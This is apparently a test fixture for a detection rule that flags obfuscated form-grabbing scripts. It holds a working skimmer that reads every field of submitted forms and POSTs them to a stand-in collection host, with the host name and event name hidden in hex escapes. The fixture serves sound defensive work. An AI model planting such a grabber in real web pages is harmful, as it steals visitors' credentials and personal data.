// Fixture for generic-form-grabber-obfuscated. The form-field reads, the XMLHttpRequest and the
// hex-escaped strings below are the file-level conditions; ruleid lines are the listeners.
// RULEID: a capture-phase listener whose event name is an array element; a plain "submit"
// listener on the document; a listener whose event is a variable.
// OK: a click listener; a DOMContentLoaded listener; an input listener.
(function (root) {
  var _k = ["\x73\x75\x62\x6d\x69\x74", "\x68\x74\x74\x70\x73\x3a\x2f\x2f\x63\x6f\x6c\x6c\x65\x63\x74\x2e\x65\x78\x61\x6d\x70\x6c\x65"];
  var ev = "submit";
  function grab(form) {
    var out = {};
    for (var i = 0; i < form.elements.length; i++) out[form.elements[i].name] = form.elements[i].value;
    return out;
  }
  function send(data) {
    var x = new XMLHttpRequest();
    x.open("POST", _k[1], true);
    x.send("d=" + encodeURIComponent(JSON.stringify(data)));
  }
  // ruleid: generic-form-grabber-obfuscated
  root.document.addEventListener(_k[0], function (e) { send(grab(e.target)); }, true);
  // ruleid: generic-form-grabber-obfuscated
  document.addEventListener("submit", function (e) { send(grab(e.target)); });
  // ruleid: generic-form-grabber-obfuscated
  window.addEventListener(ev, function (e) { send(grab(e.target)); }, true);
  // ok: generic-form-grabber-obfuscated
  document.addEventListener("click", function () {});
  // ok: generic-form-grabber-obfuscated
  document.addEventListener("DOMContentLoaded", function () {});
  // ok: generic-form-grabber-obfuscated
  document.addEventListener("input", function () {});
})(window);
